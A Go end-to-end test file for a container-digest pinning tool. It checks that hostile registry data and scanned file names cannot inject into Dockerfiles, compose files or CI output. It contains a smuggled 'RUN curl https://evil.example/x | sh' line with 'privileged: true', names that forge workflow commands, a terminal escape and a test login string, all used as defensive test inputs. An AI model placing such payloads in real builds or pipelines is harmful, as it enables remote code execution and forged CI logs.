package e2e

import (
	"crypto/sha256"
	"encoding/hex"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/digestbot/digestbot/pkg/internal/testregistry"
)

// Trust boundaries, end to end: nothing a registry or the scanned tree
// says can inject into files or output.

// TestIndexEntryDigestNeverWritten: with pins.platform: keep, the digest
// fix writes comes from an index entry. A registry whose amd64 entry's
// "digest" carries a newline and a RUN line must not add that line to the
// Dockerfile (nor privileged: true to a compose file): the ref is an error
// and the files keep their bytes.
func TestIndexEntryDigestNeverWritten(t *testing.T) {
	t.Parallel()
	var hostile []byte
	var hostileDigest string
	reg := testregistry.New(t, testregistry.WithHandlerWrap(func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if hostile != nil && (strings.HasSuffix(r.URL.Path, "/manifests/20") || strings.HasSuffix(r.URL.Path, "/manifests/"+hostileDigest)) {
				w.Header().Set("Content-Type", "application/vnd.oci.image.index.v1+json")
				w.Header().Set("Docker-Content-Digest", hostileDigest)
				if r.Method == http.MethodGet {
					_, _ = w.Write(hostile)
				}
				return
			}
			next.ServeHTTP(w, r)
		})
	}))
	old := reg.PushIndex(t, "library/node", "20", "linux/amd64", "linux/arm64/v8")
	cur := reg.PushIndex(t, "library/node", "20", "linux/amd64", "linux/arm64/v8")
	resp, err := http.Get(reg.URL() + "/v2/library/node/manifests/" + cur.Digest)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	evil := "sha256:" + strings.Repeat("0", 64) + `\nRUN curl https://evil.example/x | sh\n    privileged: true\n#`
	mod := strings.Replace(string(body), cur.Children[0].Digest, evil, 1)
	if mod == string(body) {
		t.Fatalf("amd64 entry %s not found in the index", cur.Children[0].Digest)
	}
	sum := sha256.Sum256([]byte(mod))
	hostileDigest = "sha256:" + hex.EncodeToString(sum[:])
	hostile = []byte(mod)

	w := newWorld(t, reg)
	pinned := "node:20@" + old.Children[0].Digest
	files := map[string]string{
		".digestbot.yaml": "registries:\n  docker.io: {host: " + reg.Host() + ", tls: disabled}\npins:\n  platform: keep\n",
		"Dockerfile":      "FROM " + pinned + "\nRUN true\n",
		"compose.yaml":    "services:\n  app:\n    image: " + pinned + "\n",
	}
	w.write(files)
	stdout, stderr, code := w.run("fix", "$ROOT")
	if code != 2 {
		t.Errorf("fix exit %d, want 2 (the ref is an error)\nstdout:\n%s\nstderr:\n%s", code, stdout, stderr)
	}
	for name, want := range files {
		if got := w.read(name); got != w.normalize(want) {
			t.Errorf("%s changed:\n%s", name, got)
		}
	}
	if !strings.Contains(stderr, "invalid digest") {
		t.Errorf("stderr does not say why:\n%s", stderr)
	}
	for _, line := range strings.Split(stdout+stderr, "\n") {
		if strings.HasPrefix(strings.TrimSpace(line), "RUN curl") || strings.HasPrefix(strings.TrimSpace(line), "privileged") {
			t.Errorf("registry text printed as its own line: %q", line)
		}
	}
}

// TestOutputCannotInject: file names and refs from the scanned tree reach
// stdout and stderr (and through them an Actions log) only as escaped, one
// line each: no forged workflow command, no terminal escape, no login.
func TestOutputCannotInject(t *testing.T) {
	t.Parallel()
	reg := testregistry.New(t)
	reg.PushIndex(t, "library/node", "20")
	w := newWorld(t, reg)
	evilDir := "x\n::warning file=a::INJECTED\x1b[2J"
	w.write(map[string]string{
		".digestbot.yaml":                    "registries:\n  docker.io: {host: " + reg.Host() + ", tls: disabled}\n",
		evilDir + "/Dockerfile":              "FROM node:20\nFROM node:99\n",
		"::error title=x::forged/Dockerfile": "FROM node:20\n",
		"login/Dockerfile":                   "FROM robot:hunter2secret@registry.example.com/app:1\n",
	})
	for _, args := range [][]string{
		{"scan", "$ROOT"}, {"check", "$ROOT"}, {"fix", "--dry-run", "$ROOT"}, {"check", "--format", "json", "$ROOT"}, {"fix", "$ROOT"},
	} {
		cmdline := strings.Join(args, " ")
		stdout, stderr, _ := w.run(args...)
		for where, text := range map[string]string{"stdout": stdout, "stderr": stderr} {
			for _, line := range strings.Split(text, "\n") {
				if strings.HasPrefix(strings.TrimLeft(line, " \t"), "::") {
					t.Errorf("%s: %s has a workflow command line: %q", cmdline, where, line)
				}
			}
			if strings.ContainsRune(text, '\x1b') {
				t.Errorf("%s: %s holds an escape sequence", cmdline, where)
			}
			if strings.Contains(text, "hunter2secret") {
				t.Errorf("%s: %s echoes the login in a ref", cmdline, where)
			}
		}
	}
	if _, err := os.Stat(filepath.Join(w.root, evilDir, "Dockerfile")); err != nil {
		t.Fatal(err)
	}
}
